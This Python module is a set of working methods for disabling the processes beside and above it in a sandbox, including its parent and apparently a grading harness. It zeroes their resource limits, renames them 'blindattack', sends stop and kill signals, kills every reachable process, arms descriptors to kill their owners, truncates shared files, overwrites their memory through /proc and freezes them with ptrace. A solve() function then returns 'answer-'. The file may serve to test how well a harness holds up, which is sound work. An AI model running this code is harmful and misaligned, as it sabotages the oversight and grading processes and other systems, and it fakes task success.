"""Turns on the processes beside and above it: limits, priorities, signals, their memory.

Stops at once when it sees more processes than a sandbox has: then they are the host's.
"""

import contextlib
import ctypes
import fcntl
import os
import resource
import signal

MOST_PROCESSES = 60
F_SETSIG = 10
LIMITS = ("NOFILE", "NPROC", "FSIZE", "CPU", "AS", "STACK", "SIGPENDING", "MEMLOCK")
libc = ctypes.CDLL(None, use_errno=True)


def others():
    alive = [pid for pid in range(1, 400) if exists(pid)]
    if len(alive) > MOST_PROCESSES or os.getpid() > 400:
        raise SystemExit("the host's processes are in sight")
    return [pid for pid in sorted({*alive, os.getppid()}) if pid not in (0, os.getpid())]


def exists(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:  # it is there, and above us
        return True
    return True


def limits():
    for pid in others():
        for name in LIMITS:
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(pid, getattr(resource, f"RLIMIT_{name}"), (0, 0))


def priorities():
    for pid in others():
        for change in (
            lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda pid=pid: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))}),
            lambda pid=pid: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
            lambda pid=pid: open(f"/proc/{pid}/comm", "w").write("blindattack"),
        ):
            with contextlib.suppress(OSError):
                change()


def signals(*numbers):
    for pid in others():
        for number in numbers:
            with contextlib.suppress(OSError):
                os.kill(pid, number)
    with contextlib.suppress(OSError):
        os.killpg(os.getpgid(os.getppid()), numbers[0])


def everyone(number):
    others()
    with contextlib.suppress(OSError):
        os.kill(-1, number)


def signal_at_next_message():
    """The kernel itself kills the owner of a descriptor as soon as something is written to it."""
    for pid in others():
        for fd in range(64):
            with contextlib.suppress(OSError):
                fcntl.fcntl(fd, fcntl.F_SETOWN, pid)
                fcntl.fcntl(fd, F_SETSIG, signal.SIGKILL)
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)


def shared_descriptors():
    """Flags and sizes belong to the open file, which others may share."""
    for fd in range(64):
        for change in (
            lambda fd=fd: fcntl.fcntl(fd, 1031, 4096),
            lambda fd=fd: os.set_blocking(fd, False),
            lambda fd=fd: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
            lambda fd=fd: os.ftruncate(fd, 0),
            lambda fd=fd: os.lseek(fd, 0, os.SEEK_END),
        ):
            with contextlib.suppress(OSError):
                change()


def overwrite_memory():
    for pid in others():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps:
            spans = [line.split()[0].split("-") for line in maps if " rw" in line]
            with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                for start, _ in spans:
                    memory.seek(int(start, 16))
                    memory.write(bytes(4096))


def traced():
    """Attached and left: a traced process waits for its tracer."""
    for pid in others():
        libc.ptrace(16, pid, None, None)
        libc.ptrace(0x4206, pid, None, None)


WAYS = {
    "limits": limits,
    "priorities": priorities,
    "stop": lambda: signals(signal.SIGSTOP),
    "kill": lambda: signals(signal.SIGKILL),
    "polite": lambda: signals(
        signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM
    ),
    "stop_everyone": lambda: everyone(signal.SIGSTOP),
    "kill_everyone": lambda: everyone(signal.SIGKILL),
    "signal_at_next_message": signal_at_next_message,
    "shared_descriptors": shared_descriptors,
    "overwrite_memory": overwrite_memory,
    "traced": traced,
}


def solve(way):
    WAYS[way]()
    return "answer-"
